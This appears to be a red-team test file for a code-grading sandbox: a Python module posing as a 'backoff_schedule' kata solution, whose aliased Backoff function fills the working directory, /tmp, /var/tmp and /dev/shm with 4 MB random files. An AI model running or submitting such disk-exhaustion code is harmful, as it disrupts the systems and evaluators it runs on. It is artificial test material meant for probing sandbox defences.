"""Fills the disk.

Kata: backoff_schedule
Attack: Writes up to 4 GB in files of 4 MB to the working directory, /tmp, /var/tmp and /dev/shm.
Status: failed or error or timed-out
Points: 0
Needs: disk
"""

import os
from pathlib import Path


def attack():
    block = os.urandom(1 << 12) * 1024
    for number in range(256):
        for folder in (Path.cwd(), Path(__file__).parent, Path("/tmp"), Path("/var/tmp"), Path("/dev/shm")):
            try:
                (folder / f"redteam-{os.getpid()}-{number}").write_bytes(block)
            except OSError:
                pass
    raise RuntimeError("filled what could be filled")


def delay(*args, **options):
    return attack()


Backoff = delay
